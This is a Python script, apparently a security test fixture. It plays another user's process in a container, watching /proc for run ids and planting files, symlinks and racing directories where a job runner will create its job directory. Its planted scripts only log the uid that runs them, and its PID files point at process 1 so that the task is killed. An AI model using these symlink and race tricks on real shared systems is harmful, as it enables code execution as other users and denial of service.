"""Another user's process in the container: it polls /proc for run ids, and plants directories, links and files where the job
directory of that run may be made.

    attacker.py DIRECTORY…

A job directory may be made in each DIRECTORY. It prints `ready` just before its first poll. A planted file that is run appends its
name, and the id of the user that has run it, to /tmp/evidence. /tmp/seen has a line for each run that it has seen, with the number
of successful attempts to plant something.
"""
import os
import re
import shutil
import sys
import time

RUN = re.compile(rb"(?:fx_id=|fx_run=|fargate-exec-)([0-9a-f]{8,})")
EVIDENCE = b'echo "$0: $(id -u)" >>/tmp/evidence\n'
FILES = ("job", "new", "payload", "script", "job.tmp", "status", "started", "recorder.py")
# The files in which a job names processes. Planted ones name process 1: when it is killed, the task ends.
PID_FILES = ("pid", "0.pid", "1.pid", "maker", "attacher")
directories = sys.argv[1:]
tricks = ["directory", "link", "file", "flicker", "empty", "swap"]
seen = {}


def attempt(act, *arguments):
    try:
        act(*arguments)
    except OSError:
        return 0
    return 1


def fill(directory):
    for name in FILES:
        with open(os.path.join(directory, name), "wb") as file:
            file.write(EVIDENCE)
    for number, name in enumerate(PID_FILES):
        with open(os.path.join(directory, name), "w") as file:
            file.write("1\n" if number % 2 else "1:1\n")


def make(path):
    os.mkdir(path, 0o777)
    fill(path)
    os.chmod(path, 0o777)


def link(path):
    target = "%s-%d" % (path, os.getpid())
    attempt(make, target)
    os.symlink(target, path)


def write(path):
    with open(path, "xb") as file:
        file.write(EVIDENCE)


def plant(path, trick):
    return attempt({"directory": make, "link": link, "file": write, "empty": os.mkdir}[trick], path)


def remove(path):
    attempt(os.unlink, path)
    shutil.rmtree(path, ignore_errors=True)


def keep_changing(path, trick):
    """Replaces a path again and again, so that a check and the use after it see different things."""
    kinds = ["directory", "link", "empty"] if trick == "flicker" else ["link", "directory"]
    until = time.monotonic() + 0.6
    done = 0
    while time.monotonic() < until:
        for kind in kinds:
            done += plant(path, kind)
            remove(path)
    return done + plant(path, kinds[-1])


print("ready", flush=True)
while True:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as file:
                found = RUN.search(file.read())
        except OSError:
            continue
        if not found or found[1] in seen:
            continue
        run = seen[found[1]] = found[1].decode()
        trick = tricks[len(seen) % len(tricks)]
        paths = ["%s/fargate-exec-%s" % (parent, run) for parent in directories]
        if trick in ("flicker", "swap"):
            done = sum(plant(path, "directory") for path in paths[1:]) + keep_changing(paths[0], trick)
        else:
            done = sum(plant(path, trick) for path in paths)
        with open("/tmp/seen", "a") as file:
            file.write("%s %s %d\n" % (run, trick, done))
